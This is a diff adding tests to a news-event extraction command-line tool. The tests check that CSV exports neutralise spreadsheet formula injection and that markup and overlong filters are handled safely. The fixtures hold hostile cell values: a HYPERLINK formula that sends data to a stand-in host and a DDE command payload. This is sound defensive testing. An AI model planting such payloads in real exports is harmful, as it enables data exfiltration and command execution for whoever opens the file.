@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
@@ -10,7 +12,11 @@ import pytest
 from typer.testing import CliRunner
 
 from sitroom.cli import app
+from sitroom.cli.common import MAX_FILTER_CHARS, spreadsheet_safe
+from sitroom.model import Actor, ActorType, Location, SubEventType
+from sitroom.pipeline import corroborate_all
 from sitroom.store import Store
+from tests.brief.conftest import REUTERS, article, mention
 from tests.conftest import SEED_ARTICLE
 
 runner = CliRunner()
@@ -119,3 +125,104 @@ def test_run_reports_articles_and_writes_the_database(tmp_path: Path) -> None:
     code, out = _invoke("run", str(SEED_ARTICLE), "--db", str(db))
     assert code == 0, out
     assert "1 new article(s)" in out and db.exists()
+
+
+# --------------------------------------------------------------------------- untrusted text in exports and filters
+
+FORMULA_ACTOR = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+FORMULA_PLACE = "+cmd|' /C calc'!A0"
+
+
+def _hostile_db(tmp_path: Path) -> str:
+    """One stored report whose article-derived fields are spreadsheet formulas and rich markup."""
+    db = str(tmp_path / "hostile.db")
+    source = article(REUTERS, "reuters.com")
+    place = Location(name=FORMULA_PLACE, country="Syria", admin1="@SUM(1+1)", latitude=35.93, longitude=-3.5)
+    report = mention(
+        source,
+        "struck the city of Idlib on Monday, killing at least 25 people",
+        SubEventType.AIR_DRONE_STRIKE,
+        location=place,
+        actor1=Actor(name=FORMULA_ACTOR, actor_type=ActorType.STATE_FORCES),
+        actor2=Actor(name="[/x] -2+3", actor_type=ActorType.REBEL_GROUP),
+        fatalities={"low": 25},
+    )
+    with Store(db) as store:
+        store.add_articles([source])
+        store.replace_mentions(source.id, [report])
+        corroborate_all(store)
+    return db
+
+
+def _flat(out: str) -> str:
+    """Output without rich's box drawing and line wrapping."""
+    return " ".join(out.translate(str.maketrans("│╭╮╰╯─", "      ")).split())
+
+
+def test_spreadsheet_safe_quotes_formula_text_only() -> None:
+    for formula in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+        assert spreadsheet_safe(formula) == "'" + formula
+    for plain in ("Idlib", "Military Forces of Syria (2000-2024)", "", "3-4", "a=b"):
+        assert spreadsheet_safe(plain) == plain
+    for number in (-3.5, -1, 0, 25, None):
+        assert spreadsheet_safe(number) == number
+
+
+def test_events_csv_defuses_formula_cells_and_keeps_numbers(tmp_path: Path) -> None:
+    db = _hostile_db(tmp_path)
+    for extra in ([], ["--reports"]):
+        code, out = _invoke("events", "--db", db, "--format", "csv", *extra)
+        assert code == 0, out
+        [row] = list(csv.DictReader(io.StringIO(out)))
+        assert row["actor1"] == "'" + FORMULA_ACTOR
+        assert row["actor2"] == "[/x] -2+3"  # a formula sign inside the text is harmless
+        assert row["location"] == "'" + FORMULA_PLACE
+        assert row["admin1"] == "'@SUM(1+1)"
+        assert row["longitude"] == "-3.5" and row["latitude"] == "35.93"  # numbers stay numbers
+        assert row["country"] == "Syria" and row["fatalities_low"] == "25"
+    code, out = _invoke("events", "--db", db, "--format", "json")
+    assert code == 0 and json.loads(out)[0]["actor1"] == FORMULA_ACTOR  # JSON keeps the text as stored
+
+
+def test_article_markup_prints_as_written_in_the_terminal(tmp_path: Path) -> None:
+    db = _hostile_db(tmp_path)
+    code, out = _invoke("events", "--db", db, "--reports")
+    assert code == 0, out
+    assert "[/x]" in _flat(out).replace(" ", "")  # a rich closing tag in a name used to crash the table
+    with Store(db) as store:
+        report_id = store.mentions()[0].id
+    code, out = _invoke("show", report_id, "--db", db)
+    assert code == 0, out
+    assert "[/x] -2+3" in _flat(out)
+
+
+def test_events_limit_must_be_at_least_one(tmp_path: Path) -> None:
+    db = _hostile_db(tmp_path)
+    for bad in ("0", "-1"):
+        code, out = _invoke("events", "--db", db, "--reports", "--limit", bad)
+        assert code == 2 and "--limit" in out, out
+    code, out = _invoke("events", "--db", db, "--reports", "--limit", "1", "--format", "json")
+    assert code == 0 and len(json.loads(out)) == 1
+
+
+def test_overlong_filters_are_a_clean_error(tmp_path: Path) -> None:
+    db = str(tmp_path / "t.db")
+    blob = "a" * 50_000
+    for command, option in [
+        ("events", "--actor"),
+        ("events", "--country"),
+        ("events", "--type"),
+        ("brief", "--admin1"),
+    ]:
+        result = runner.invoke(app, [command, "--db", db, option, blob])
+        assert result.exit_code == 2 and isinstance(result.exception, SystemExit), result.output[-500:]
+        flat = _flat(result.output)
+        assert f"Invalid value for '{option}': at most {MAX_FILTER_CHARS} characters" in flat
+        assert blob not in result.output
+    code, out = _invoke("events", "--db", db, "--actor", "a" * MAX_FILTER_CHARS)
+    assert code == 0, out
+
+
+def test_option_values_that_look_like_markup_are_reported_verbatim(tmp_path: Path) -> None:
+    code, out = _invoke("events", "--db", str(tmp_path / "t.db"), "--since", "[/x]")
+    assert code == 1 and "--since must be a date like 2024-11-27, got '[/x]'" in out
